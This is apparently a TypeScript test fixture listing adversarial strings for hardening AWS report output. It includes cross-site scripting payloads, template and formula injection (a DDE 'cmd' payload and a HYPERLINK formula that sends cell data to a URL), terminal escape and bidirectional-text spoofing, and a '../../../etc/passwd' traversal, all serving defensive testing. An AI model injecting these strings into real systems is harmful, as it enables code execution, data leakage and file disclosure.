/**
 * Texts that break careless output, by what they break. AWS lets users choose resource names, tags
 * and parts of error messages, so each of them may stand anywhere in a report.
 */
export const hostileTexts = {
  scriptEnd: "</script><script>alert(1)</script><!--",
  markupAttribute: `" onmouseover="alert(1)" x='`,
  markupEntity: "&lt;b&gt; &amp; &#0;",
  scriptUrl: "[link](javascript:alert(1)) | `code` <javascript:alert(1)>",
  template: "{{constructor}} {{{raw}}} ${7*7} <%= 7*7 %>",
  terminal: "red \u001b[31m title \u001b]0;owned\u0007 back \b\b nul \u0000 c1 \u009b31m",
  bidirectional: "safe \u202eexe.fdp \u2066isolate\u2069 \u200bzero width",
  lineSeparators: "one\u2028two\u2029three\r\nfour\ttab",
  formulaEquals: '=HYPERLINK("https://example.com?"&A1,"open")',
  formulaPlus: "+1+cmd|' /C calc'!A0",
  formulaMinus: "-2+3",
  formulaAt: "@SUM(1+1)",
  quotes: `"double", 'single', \`back\`, comma;semicolon`,
  prototype: "__proto__",
  path: "../../../etc/passwd",
  outsideBasicPlane: "🚪 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
  loneSurrogate: "half \ud83d of a pair",
  long: "n".repeat(4096),
} as const;
